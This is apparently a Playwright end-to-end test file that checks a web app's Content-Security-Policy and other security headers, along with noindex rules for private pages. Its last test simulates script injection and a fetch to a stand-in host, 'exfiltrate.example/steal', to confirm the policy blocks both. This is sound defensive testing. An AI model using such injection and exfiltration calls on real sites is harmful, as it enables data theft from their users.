import { inlineHashes } from '../../src/hosting/inline-hashes';
import { contentSecurityPolicy } from '../../src/hosting/security-headers';
import { buildOrigins } from '../../src/hosting/vite-plugin';
import { e2eApiUrl } from './support/e2e-env';
import { expect, test, watchCspViolations } from './support/test';

test('every page and asset comes with the CSP and the other security headers', async ({ request }) => {
  // The build's pages as served (prerendered / and /roi, the app shell elsewhere): the policy allows exactly
  // their inline styles and scripts, by hash, and the build's own backends.
  const pages = await Promise.all(['/', '/roi', '/no-such-page'].map(async (path) => (await request.get(path)).text()));
  const expectedPolicy = contentSecurityPolicy(buildOrigins({ VITE_SUPABASE_URL: e2eApiUrl }), inlineHashes(pages));
  const script = /<script[^>]+src="([^"]+)"/.exec(pages[0] ?? '')?.[1];
  expect(script).toBeDefined();
  for (const path of ['/', '/roi', '/no-such-page', `${script}`]) {
    const headers = (await request.get(path)).headers();
    expect(headers['content-security-policy'], path).toBe(expectedPolicy);
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy'], path).toContain('microphone=(self)');
  }
});

test('the policy is the strict one: own scripts, the stand-in and the voice hosts to connect to, no framing', async ({
  request,
}) => {
  const directives = new Map(
    ((await request.get('/')).headers()['content-security-policy'] ?? '').split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ');
      return [name, sources];
    }),
  );
  expect(directives.get('script-src')).toEqual(["'self'", 'https://c.daily.co']);
  expect(directives.get('connect-src')).toEqual([
    "'self'",
    e2eApiUrl,
    e2eApiUrl.replace('http:', 'ws:'),
    'https://api.vapi.ai',
    'https://*.daily.co',
    'wss://*.daily.co',
    'https://o77906.ingest.sentry.io',
  ]);
  expect(directives.get('frame-src')).toEqual(['https://www.youtube-nocookie.com', 'https://*.daily.co']);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('base-uri')).toEqual(["'self'"]);
  expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
});

test('personal voice pages and the staff area tell search engines not to index them; public pages do not', async ({
  request,
}) => {
  for (const path of ['/ai-phone-caller', '/ai-phone-caller/acme-dental', '/admin/login', '/admin/dashboard']) {
    expect((await request.get(path)).headers()['x-robots-tag'], path).toBe('noindex');
  }
  for (const path of ['/', '/roi', '/administrator']) {
    expect((await request.get(path)).headers()['x-robots-tag'], path).toBeUndefined();
  }
});

test('the page refuses an injected inline script and a connection to a host the policy does not name', async ({
  browser,
}) => {
  const context = await browser.newContext();
  const violations = await watchCspViolations(context);
  const page = await context.newPage();
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    await fetch('https://exfiltrate.example/steal').catch(() => undefined);
    return 'injected' in window;
  });
  expect(ran).toBe(false);
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
  expect(violations.join('\n')).toContain('script-src');
  expect(violations.join('\n')).toContain('connect-src');
  await context.close();
});
